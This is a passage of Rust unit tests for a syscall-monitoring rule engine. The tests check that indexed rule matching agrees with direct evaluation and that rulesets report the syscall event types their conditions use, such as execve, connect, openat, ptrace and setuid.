                    .filter(|e| e.need_true | e.need_false != 0)
                    .count()
            })
            .sum();
        assert!(guarded > 0);
        let indexed: usize = rules
            .index
            .iter()
            .flat_map(|i| i.by_type.values())
            .map(|b| b.rules.iter().filter(|e| e.value_bit != 0).count())
            .sum();
        assert!(indexed > 0);
        let mut scratch = MatchScratch::default();
        let mut hits = 0;
        for ev in events() {
            let mut got = Vec::new();
            rules.matches_with(&ev, &mut scratch, |r| got.push(r.name.clone()));
            let mut want = Vec::new();
            for (i, n) in rules.candidates(&ev).nodes.iter() {
                let mut s = MatchScratch::default();
                if eval::eval(n, &ev, &mut s) {
                    want.push(rules.compiled[*i as usize].rule.name.clone());
                }
            }
            assert_eq!(got, want, "{ev:?}");
            hits += got.len();
        }
        assert!(hits > 100, "{hits}");
    }

    #[test]
    fn event_types_are_the_interest_set_of_the_rules() {
        let (rules, _) = RuleSetBuilder::new().builtin(true).build().unwrap();
        let types = rules
            .event_types(EventSource::Syscall)
            .expect("every built-in syscall rule pins evt.type");
        for t in ["execve", "connect", "openat"] {
            assert!(types.iter().any(|x| x == t), "{t} missing from {types:?}");
        }
        for t in ["clone", "procexit"] {
            assert!(!types.iter().any(|x| x == t), "{t} in {types:?}");
        }
        let text =
            "- rule: Any\n  desc: d\n  condition: proc.name = x\n  output: o\n  priority: INFO\n";
        let (rules, _) = RuleSetBuilder::new()
            .add_source("any.yaml", text)
            .build()
            .unwrap();
        assert_eq!(rules.event_types(EventSource::Syscall), None);
        let text = "- rule: Two\n  desc: d\n  condition: evt.type in (ptrace, setuid) and proc.name = x\n  output: o\n  priority: INFO\n\
                    - rule: Off\n  desc: d\n  condition: evt.type = unlink\n  output: o\n  priority: INFO\n  enabled: false\n";
        let (rules, _) = RuleSetBuilder::new()
            .add_source("two.yaml", text)
            .build()
            .unwrap();
        assert_eq!(
            rules.event_types(EventSource::Syscall),
            Some(vec!["ptrace".to_string(), "setuid".to_string()])
        );
    }
}
